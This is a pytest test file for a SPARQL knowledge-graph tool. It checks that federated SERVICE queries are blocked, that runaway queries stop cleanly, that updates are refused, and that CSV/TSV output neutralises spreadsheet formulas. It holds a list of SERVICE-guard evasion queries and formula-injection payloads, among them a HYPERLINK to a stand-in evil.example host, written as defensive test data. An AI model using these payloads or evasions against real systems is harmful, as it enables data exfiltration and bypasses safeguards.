"""Reliability: SPARQL that stays home and queries that cannot run away.

A listener on 127.0.0.1 stands for "the outside": SERVICE queries, however written, must never reach it,
from `kg query` or from `kg serve` (and a control shows the engine itself would call it). A runaway
query is stopped by its timeout, by Ctrl-C, or by its memory bound, with one line and no traceback;
the server's answers are whole or an error status; the server comes back when its engine dies; CSV and
TSV cells that a spreadsheet would run as formulas are made text."""

from __future__ import annotations

import csv
import http.server
import io
import json
import signal
import threading
import time
import urllib.error
import urllib.parse
import urllib.request

import pytest
from kgproc import children, kg, one_line, start, wait_for

from kg.sparql import guard

# hours in constant memory (a streamed count), so the time limit, never the memory bound, stops it
HEAVY = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"


@pytest.fixture(scope="module")
def outside():
    """A web server on the loopback interface that records every request it gets."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(500)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *a):
            pass

    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{srv.server_address[1]}", hits
    srv.shutdown()


def evasions(base: str) -> list[str]:
    body = "{ ?s ?p ?o }"
    return [
        f"SELECT * WHERE {{ SERVICE <{base}/plain> {body} }}",
        f"select * where {{ service <{base}/lower> {body} }}",
        f"SELECT * WHERE {{ SeRvIcE SILENT <{base}/mixed> {body} }}",
        f"SELECT * WHERE {{ # a comment\n  SERVICE\n\t<{base}/breaks> {body} }}",
        f"SELECT * WHERE {{ ?x ?y ?z .SERVICE<{base}/glued>{body} }}",
        f"SELECT * WHERE {{ OPTIONAL {{ SERVICE <{base}/nested> {body} }} }}",
        f"SELECT * WHERE {{ {{ SELECT * WHERE {{ SERVICE <{base}/sub> {body} }} }} }}",
        f"SELECT * WHERE {{ \\u0053ERVICE <{base}/escaped> {body} }}",
        f"SELECT * WHERE {{ SERVICE <{base}/\\u0064> {body} }}",
        f'SELECT * WHERE {{ BIND("}}" AS ?q) SERVICE <{base}/after-string> {body} }}',
        f"PREFIX s: <{base}/>\nSELECT * WHERE {{ SERVICE s:pname {body} }}",
        f"SELECT * WHERE {{ VALUES ?u {{ <{base}/var> }} SERVICE ?u {body} }}",
    ]


HARMLESS = [
    "SELECT ?service WHERE { ?service ?p ?o } LIMIT 1",
    'SELECT * WHERE { ?s ?p "SERVICE <http://example.org/> { }" } LIMIT 1',
    "SELECT * WHERE { ?s ?p ?o } LIMIT 1 # SERVICE <http://example.org/>",
    "PREFIX service: <http://example.org/>\nSELECT * WHERE { ?s service:SERVICE ?o } LIMIT 1",
    "SELECT * WHERE { ?s <http://example.org/SERVICE> ?o } LIMIT 1",
    "SELECT * WHERE { ?s ?p 'it\\'s a SERVICE'@service } LIMIT 1",
]


def test_the_engine_itself_would_call_out(outside):
    """The control: without the guard, Oxigraph does make the request (so the checks below can fail)."""
    import pyoxigraph as ox

    base, hits = outside
    n = len(hits)
    with pytest.raises(OSError):
        list(ox.Store().query(f"SELECT * WHERE {{ SERVICE <{base}/control> {{ ?s ?p ?o }} }}"))
    assert len(hits) == n + 1


def test_the_guard_finds_every_evasion_and_lets_harmless_text_through(outside):
    base, _ = outside
    for q in evasions(base):
        assert guard.calls_service(q), q
    for q in HARMLESS:
        assert not guard.calls_service(q), q


def test_kg_query_refuses_service(outside, sample_store):
    base, hits = outside
    n = len(hits)
    for q in evasions(base):
        res = kg("query", q, "--store", sample_store)
        assert res.returncode == 1, (q, res.stdout, res.stderr)
        assert one_line(res.stderr) and "SERVICE" in res.stderr, res.stderr
    for q in HARMLESS:
        res = kg("query", q, "--store", sample_store)
        assert res.returncode == 0, (q, res.stderr)
    assert len(hits) == n  # nothing went out


@pytest.fixture(scope="module")
def served(sample_store):
    """`kg serve` in this process (port 0), with small bounds so that the tests can reach them."""
    from kg.sparql.supervise import serve

    said: list[str] = []
    urls: list[str] = []
    stop = threading.Event()
    t = threading.Thread(
        target=serve,
        args=(sample_store,),
        kwargs=dict(
            port=0, timeout=3, max_mb=1, memory_mb=1024, announce=said.append, stop=stop, ready=urls.append
        ),
        daemon=True,
    )
    t.start()
    assert wait_for(lambda: urls, within=60), said
    yield urls[0], said
    stop.set()
    t.join(timeout=60)


def _ask(
    url: str,
    query: str,
    *,
    method: str = "POST",
    ctype: str = "form",
    accept: str = "application/sparql-results+json",
):
    if method == "GET":
        req = urllib.request.Request(url + "/query?" + urllib.parse.urlencode({"query": query}))
    elif ctype == "form":
        req = urllib.request.Request(url + "/query", data=urllib.parse.urlencode({"query": query}).encode())
    else:
        req = urllib.request.Request(
            url + "/query", data=query.encode(), headers={"Content-Type": "application/sparql-query"}
        )
    req.add_header("Accept", accept)
    try:
        with urllib.request.urlopen(req, timeout=60) as r:
            return r.status, r.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode("utf-8", "replace")


COUNT = "SELECT (COUNT(*) AS ?n) WHERE { ?a a <https://w3id.org/cadrekg/ontology#Article> }"


def test_serve_refuses_service_and_updates(outside, served):
    base, hits = outside
    url, _ = served
    n = len(hits)
    for q in evasions(base):
        for method, ctype in (("GET", ""), ("POST", "form"), ("POST", "direct")):
            status, body = _ask(url, q, method=method, ctype=ctype)
            assert status == 403 and "SERVICE" in body, (q, method, ctype, status, body)
    assert len(hits) == n
    update = "INSERT DATA { <http://e/a> <http://e/b> <http://e/c> }"
    for req in (
        urllib.request.Request(url + "/update", data=urllib.parse.urlencode({"update": update}).encode()),
        urllib.request.Request(
            url + "/update", data=update.encode(), headers={"Content-Type": "application/sparql-update"}
        ),
        urllib.request.Request(url + "/query", data=urllib.parse.urlencode({"update": update}).encode()),
        urllib.request.Request(
            url + "/store?default", data=b"<http://e/a> <http://e/b> <http://e/c> .", method="PUT"
        ),
    ):
        try:
            urllib.request.urlopen(req, timeout=30)
            raise AssertionError("an update was accepted")
        except urllib.error.HTTPError as exc:
            assert exc.code == 403
    assert _ask(url, COUNT)[0] == 200


def test_serve_answers_are_whole_or_an_error_status(served):
    url, _ = served
    status, body = _ask(url, COUNT)
    assert status == 200 and json.loads(body)["results"]["bindings"][0]["n"]["value"] == "18"
    status, body = _ask(url, "SELECT * WHERE { ?s ?p ?o }")  # ~2 MB of JSON, over the 1 MB bound
    assert status == 507 and "MB" in body
    t0 = time.monotonic()
    status, body = _ask(
        url, "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . FILTER(STR(?c) < STR(?f)) }"
    )
    assert status == 504 and "秒" in body
    assert time.monotonic() - t0 < 30
    assert _ask(url, COUNT)[0] == 200  # and it goes on answering


def test_serve_restarts_its_engine_when_it_dies(served):
    """A query past the engine's memory bound kills it (Oxigraph aborts on a failed allocation): that
    request gets 502, the supervisor restarts the engine and says so, the next request is answered."""
    url, said = served
    status, body = _ask(url, "SELECT * WHERE { ?a ?b ?c . ?d ?e ?f } ORDER BY ?c LIMIT 5")
    assert status in (502, 504), (status, body)
    assert wait_for(lambda: _ask(url, COUNT)[0] == 200, within=30)
    if status == 502:
        assert any("重启" in s for s in said), said


def test_a_look_that_fails_leaves_the_endpoint_up(served, monkeypatch):
    """The supervisor's look at the engine and the store raising must not take the front down: it says
    so and goes on serving (a dead front resets every queued connection)."""
    import kg.sparql.supervise as supervise

    url, said = served

    def broken(*args, **kwargs):
        raise RuntimeError("boom")

    monkeypatch.setattr(supervise, "_watch", broken)
    assert wait_for(lambda: any("boom" in s for s in said), within=30), said
    assert _ask(url, COUNT)[0] == 200
    monkeypatch.undo()
    assert _ask(url, COUNT)[0] == 200


def test_kg_query_timeout_stops_a_runaway_query(sample_store):
    t0 = time.monotonic()
    res = kg("query", HEAVY, "--store", sample_store, "--timeout", "2")
    assert res.returncode == 1 and one_line(res.stderr) and "2 秒" in res.stderr, res.stderr
    assert time.monotonic() - t0 < 30


def test_kg_query_memory_bound(sample_store):
    res = kg(
        "query",
        "SELECT * WHERE { ?a ?b ?c . ?d ?e ?f } ORDER BY ?c LIMIT 5",
        "--store",
        sample_store,
        KG_QUERY_MAX_MB="1024",
    )
    assert res.returncode == 1 and one_line(res.stderr) and "内存" in res.stderr, res.stderr


def test_ctrl_c_stops_kg_query_at_once(sample_store):
    proc = start("query", HEAVY, "--store", sample_store, "--timeout", "0")
    try:
        assert wait_for(lambda: children(proc.pid), within=30)  # the query runs in its child
        kids = children(proc.pid)
        time.sleep(0.5)
        t0 = time.monotonic()
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=20)
        assert time.monotonic() - t0 < 5
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 130 and "已中断" in err and "Traceback" not in err, err
    from kgproc import alive

    assert not any(alive(p) for p in kids)


FORMULAS = ['=HYPERLINK("http://evil.example/?x","click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "＝1+1"]


def test_csv_and_tsv_cells_are_never_formulas(tmp_path):
    from kg.store import GraphStore

    store = tmp_path / "s"
    with GraphStore(store, create=True) as gs:
        import pyoxigraph as ox

        g = ox.NamedNode("https://w3id.org/cadrekg/id/graph/shared")
        for i, text in enumerate(FORMULAS):
            gs.add_quads(
                [ox.Quad(ox.NamedNode(f"http://e/{i}"), ox.NamedNode("http://e/v"), ox.Literal(text), g)]
            )
        gs.add_quads(
            [
                ox.Quad(
                    ox.NamedNode("http://e/n"),
                    ox.NamedNode("http://e/v"),
                    ox.Literal("-12", datatype=ox.NamedNode("http://www.w3.org/2001/XMLSchema#integer")),
                    g,
                )
            ]
        )
    q = "SELECT ?v WHERE { ?s <http://e/v> ?v } ORDER BY ?s"
    res = kg("query", q, "--store", store, "--format", "csv")
    assert res.returncode == 0, res.stderr
    cells = [row[0] for row in csv.reader(io.StringIO(res.stdout, newline=""))][1:]
    assert len(cells) == len(FORMULAS) + 1
    for c in cells:
        assert c == "-12" or c.startswith("'"), c  # a number stays a number
    assert "-12" in cells
    res = kg("query", q, "--store", store, "--format", "tsv")
    for line in res.stdout.splitlines()[1:]:
        body = line[1:] if line.startswith('"') else line
        assert body == "-12" or body.startswith("'"), line


@pytest.mark.parametrize("name", ["kg.sparql.guard", "kg.sparql.cells"])
def test_doctests(name):
    import doctest
    import importlib

    result = doctest.testmod(importlib.import_module(name))
    assert result.attempted > 0 and result.failed == 0
